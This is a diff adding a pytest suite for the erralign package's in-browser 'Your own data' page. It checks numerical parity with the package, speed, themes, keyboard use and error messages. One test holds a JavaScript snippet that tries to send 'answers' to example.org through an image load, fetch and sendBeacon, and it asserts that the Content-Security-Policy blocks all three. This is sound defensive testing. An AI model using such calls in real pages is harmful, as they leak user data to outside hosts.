@@ -1,0 +1,284 @@
+"""The page "Your own data": what it computes in the browser equals the package, and nothing leaves it."""
+
+import functools
+import http.server
+import re
+import threading
+import time
+from contextlib import contextmanager
+
+import numpy as np
+import pandas as pd
+import pytest
+from builders import mixed_systems
+
+import erralign
+from erralign.measures import MEASURES_OF_ERRORS, short_name
+
+ANALYSE = "([text, classes]) => work.analyse({ text, classes }, () => {})"
+# The standard deviation of a .025 quantile of 10,000 normal draws, as a share of the width of the interval.
+QUANTILE_ERROR = 0.0068
+DEFAULT_DRAWS = 10_000
+
+
+# --- parity with the package ------------------------------------------------------------------------------------------
+
+
+def as_csv(responses):
+    """Write a wide file, with a name for each class."""
+    table = pd.concat([responses.truth.rename("truth"), responses.answers], axis=1)
+    return table.rename_axis("trial").to_csv()
+
+
+def frame(truth, **answers):
+    return pd.DataFrame({"truth": truth, **answers}).rename_axis("trial").to_csv()
+
+
+def apart(n=120):
+    """Two systems that are never wrong together, and a third that is always right."""
+    truth = np.arange(n) % 3
+    first, second = truth.copy(), truth.copy()
+    first[:30], second[30:60] = (truth[:30] + 1) % 3, (truth[30:60] + 2) % 3
+    return frame(truth, first=first, second=second, perfect=truth)
+
+
+def one_class(n=200):
+    rng = np.random.default_rng(3)
+    return frame(["cat"] * n, a=rng.choice(["cat", "dog", "fox"], n), b=rng.choice(["cat", "dog", "fox", "na"], n))
+
+
+FILES = {
+    "random": as_csv(mixed_systems(1)),
+    "time-outs": as_csv(mixed_systems(2, time_outs=0.3)),
+    "many classes": as_csv(mixed_systems(3, n_systems=4, n_trials=500, n_classes=40)),
+    "twenty systems": as_csv(mixed_systems(4, n_systems=20, n_trials=1280, n_classes=16, time_outs=0.02)),
+    "one true class": one_class(),
+    "one class at all": frame(["cat"] * 5, a=["cat"] * 5, b=["cat", "na", "cat", "cat", "na"]),
+    "no errors": frame([0, 1, 2] * 20, a=[0, 1, 2] * 20, b=[0, 1, 2] * 20),
+    "no joint errors": apart(),
+    "nobody is right": frame([0, 1] * 20, a=[1, 0] * 20, b=[1, 0] * 20),
+    "no answers": frame(["x", "y"] * 20, a=["x", "y"] * 20, b=["na"] * 40),
+    "one joint error": frame(
+        ["x", "y", "z"] * 9, a=["y", "y", "z"] + ["x", "y", "z"] * 8, b=["x"] * 3 + ["x", "y", "z"] * 8
+    ),
+    "a single trial": frame(["x"], a=["x"], b=["na"]),
+}
+
+
+@pytest.fixture(scope="module")
+def both(numerics, tmp_path_factory):
+    """Return a function that analyses a file of :data:`FILES` in the browser and with the package, once."""
+
+    @functools.cache
+    def analyse(name):
+        path = tmp_path_factory.mktemp("answers") / "mine.csv"
+        path.write_text(FILES[name])
+        mine = erralign.read_answers(path)
+        return numerics.evaluate(ANALYSE, [FILES[name], ""]), mine, erralign.pairwise_intervals(mine)
+
+    return analyse
+
+
+def from_the_page(result, short):
+    return np.array([pair[short] for pair in result["pairs"]], dtype=float)
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_values_are_those_of_the_package(name, both):
+    result, mine, pairs = both(name)
+    assert result["nClasses"] == len(mine.classes)
+    assert [pair["jointErrors"] for pair in result["pairs"]] == pairs["n_joint_errors"].tolist()
+    for measure in MEASURES_OF_ERRORS:
+        found = from_the_page(result, short_name(measure))[:, 0]
+        np.testing.assert_allclose(found, pairs[measure], rtol=0, atol=1e-12, err_msg=measure)
+
+
+@pytest.mark.parametrize("name", FILES)
+def test_limits_in_closed_form_are_those_of_the_package(name, both):
+    result, mine, pairs = both(name)
+    accuracies = erralign.accuracy_intervals(mine)
+    for place, end in enumerate(("low", "high"), start=1):
+        agreement = pairs[f"misclassification_agreement_{end}"]
+        np.testing.assert_allclose(from_the_page(result, "MA")[:, place], agreement, rtol=0, atol=1e-12)
+        found = [system["accuracy"][place] for system in result["systems"]]
+        np.testing.assert_allclose(found, accuracies[end], rtol=0, atol=1e-12)
+
+
+@pytest.mark.parametrize("measure", ["error_consistency", "class_level_error_similarity"])
+@pytest.mark.parametrize("name", FILES)
+def test_limits_that_are_drawn_agree_within_what_draws_allow(name, measure, both):
+    result, _, pairs = both(name)
+    short = short_name(measure)
+    low, high = (pairs[f"{measure}_{end}"].to_numpy() for end in ("low", "high"))
+    draws = 1 + DEFAULT_DRAWS / result["draws"][short]
+    # Six standard deviations, since there are hundreds of limits; and single precision.
+    allowed = 6 * QUANTILE_ERROR * np.sqrt(draws) * (high - low) + 1e-6
+    for place, expected in enumerate((low, high), start=1):
+        found = from_the_page(result, short)[:, place]
+        np.testing.assert_array_equal(np.isnan(found), np.isnan(expected))
+        assert (np.abs(found - expected)[~np.isnan(expected)] <= allowed[~np.isnan(expected)]).all()
+
+
+def test_the_same_file_gives_the_same_numbers_again(numerics, both):
+    again = numerics.evaluate(ANALYSE, [FILES["time-outs"], ""])
+    np.testing.assert_equal(again, both("time-outs")[0])
+
+
+def test_declared_classes_are_part_of_similarity(numerics, tmp_path):
+    path = tmp_path / "mine.csv"
+    path.write_text("trial,truth,a,b\n1,cat,dog,cat\n2,dog,dog,cat\n")
+    mine = erralign.read_answers(path, classes=["cat", "dog", "fox", "owl"])
+    expected = erralign.pairwise(mine, ["class_level_error_similarity"]).iloc[0, -1]
+    for declared in ("4", "cat, dog, fox, owl"):
+        result = numerics.evaluate(ANALYSE, [path.read_text(), declared])
+        assert result["declared"]
+        assert result["pairs"][0]["CLES"][0] == pytest.approx(expected, abs=1e-12)
+
+
+# --- the page ---------------------------------------------------------------------------------------------------------
+
+DONE = "name => ['done', 'failed'].includes(document.getElementById(name).dataset.state)"
+DRAWN = "() => [...document.querySelectorAll('figure.vl')].every(figure => figure.dataset.drawn)"
+TRY_TO_TELL = """async () => {
+    const refused = new Set();
+    document.addEventListener("securitypolicyviolation", event => refused.add(event.effectiveDirective));
+    new Image().src = "https://example.org/?answers";
+    await fetch("https://example.org/?answers").catch(() => {});
+    navigator.sendBeacon("https://example.org/", "answers");
+    while (refused.size < 2) await new Promise(resolve => setTimeout(resolve, 10));
+    return [...refused].sort();
+}"""
+
+
+@pytest.fixture(scope="module")
+def served(site):
+    """Serve the site over http, for as long as these tests run."""
+    handler = functools.partial(QuietHandler, directory=site)
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+
+
+class QuietHandler(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, *_):
+        """Say nothing about requests."""
+
+    def do_GET(self):
+        """Serve files; browsers ask for an icon that no page names."""
+        if self.path == "/favicon.ico":
+            self.send_response(http.HTTPStatus.NO_CONTENT)
+            self.end_headers()
+        else:
+            super().do_GET()
+
+
+@pytest.fixture(params=["disk", "http"])
+def address(request, site):
+    return site.as_uri() if request.param == "disk" else request.getfixturevalue("served")
+
+
+@contextmanager
+def opened(browser, address, *, width=1280, theme="light"):
+    """Open the page, and collect what went wrong and every request that is not the site's."""
+    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=theme)
+    view = context.new_page()
+    troubles = []
+    view.on(
+        "request", lambda request: request.url.startswith((address, "data:", "blob:")) or troubles.append(request.url)
+    )
+    view.on("console", lambda message: message.type in {"error", "warning"} and troubles.append(message.text))
+    view.on("pageerror", lambda error: troubles.append(str(error)))
+    view.goto(f"{address}/your-own-data.html")
+    yield view, troubles
+    context.close()
+
+
+def choose(view, name, text):
+    """Give the page a file, and wait until everything is there."""
+    view.locator("#own-file").set_input_files([{"name": name, "mimeType": "text/csv", "buffer": text.encode()}])
+    view.wait_for_function(DONE, arg="own-answers", timeout=60_000)
+    view.wait_for_function(DRAWN, timeout=20_000)
+
+
+def timed(function, *arguments):
+    began = time.perf_counter()
+    function(*arguments)
+    return time.perf_counter() - began
+
+
+def test_a_file_of_twenty_systems_takes_less_than_five_seconds(browser, address, both):
+    result, _, pairs = both("twenty systems")
+    with opened(browser, address) as (view, troubles):
+        seconds = min(timed(choose, view, f"{turn}.csv", FILES["twenty systems"]) for turn in range(3))
+        rows = view.locator(".own-table").nth(1).locator("tbody tr").all_inner_texts()
+        figures = view.locator("#own-results figure").count()
+    assert troubles == []
+    assert len(rows) == len(pairs) == 190
+    low, high = result["pairs"][0]["EC"][1:]
+    assert f"{pairs['error_consistency'][0]:.2f} ({low:.2f} to {high:.2f})".replace("-", "−") in rows[0]
+    assert figures == 3
+    assert seconds < 5
+
+
+def test_nothing_can_leave_the_page(browser, address):
+    with opened(browser, address) as (view, _):
+        policy = view.locator("meta[http-equiv='Content-Security-Policy']").get_attribute("content")
+        assert "connect-src 'none'" in policy
+        assert "connect-src 'none'" in view.locator("article").inner_text()
+        assert view.evaluate(TRY_TO_TELL) == ["connect-src", "img-src"]
+
+
+def test_the_rest_of_the_page_still_works(browser, address):
+    with opened(browser, address) as (view, troubles):
+        view.wait_for_function(DRAWN, timeout=20_000)
+        view.keyboard.press("Control+k")
+        view.locator("#pst-search-dialog input").fill("planner")
+        view.keyboard.press("Enter")
+        view.wait_for_url(re.compile("search.html"))
+        view.locator("#search-results li a").first.wait_for(timeout=20_000)
+    assert troubles == []
+
+
+@pytest.mark.parametrize(("theme", "width"), [("light", 390), ("dark", 1280)])
+def test_every_theme_and_a_phone(browser, site, theme, width):
+    with opened(browser, site.as_uri(), width=width, theme=theme) as (view, troubles):
+        choose(view, "time-outs.csv", FILES["time-outs"])
+        assert view.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
+        other = {"light": "dark", "dark": "light"}[theme]
+        view.evaluate("other => { document.documentElement.dataset.theme = other; }", other)
+        view.wait_for_function(f"() => document.querySelector('#own-results figure').dataset.drawn === '{other}'")
+    assert troubles == []
+
+
+def test_by_keyboard_alone(browser, site):
+    with opened(browser, site.as_uri()) as (view, troubles):
+        view.locator("#own-file").focus()
+        view.keyboard.press("Tab")
+        view.keyboard.press("Enter")  # the example
+        view.wait_for_function(DONE, arg="own-answers", timeout=60_000)
+        view.keyboard.press("Tab")
+        view.keyboard.type("4")
+        view.keyboard.press("Tab")
+        view.wait_for_function("() => document.getElementById('own-results').innerText.includes('4 classes')")
+        view.keyboard.press("ArrowDown")  # another data set
+        view.wait_for_function("() => document.querySelector('#own-results figcaption').innerText.includes('contrast')")
+        view.wait_for_function(DRAWN, timeout=20_000)
+        view.locator("[data-for=trials]").focus()
+        view.wait_for_function(DONE, arg="own-planner", timeout=60_000)
+        before = view.locator("#own-plan").inner_text()
+        view.keyboard.press("ArrowRight")
+        view.wait_for_function("before => document.getElementById('own-plan').innerText !== before", arg=before)
+        assert "With 180 trials" in view.locator("#own-plan").inner_text()
+    assert troubles == []
+
+
+def test_a_malformed_file_is_named_and_a_good_one_after_it_is_shown(browser, site):
+    with opened(browser, site.as_uri()) as (view, troubles):
+        choose(view, "bad.csv", "trial,truth,a,b\n1,0,0,1\n2,1,-3,1\n")
+        assert view.locator("#own-status").inner_text().startswith("bad.csv: row 3, column “a” holds")
+        assert not view.locator("#own-results").is_visible()
+        choose(view, "good.csv", FILES["no joint errors"])
+        assert "3 classes (0, 1, 2), assumed" in view.locator("#own-results").inner_text()
+        assert "undefined" in view.locator(".own-table").nth(1).inner_text()
+    assert troubles == []
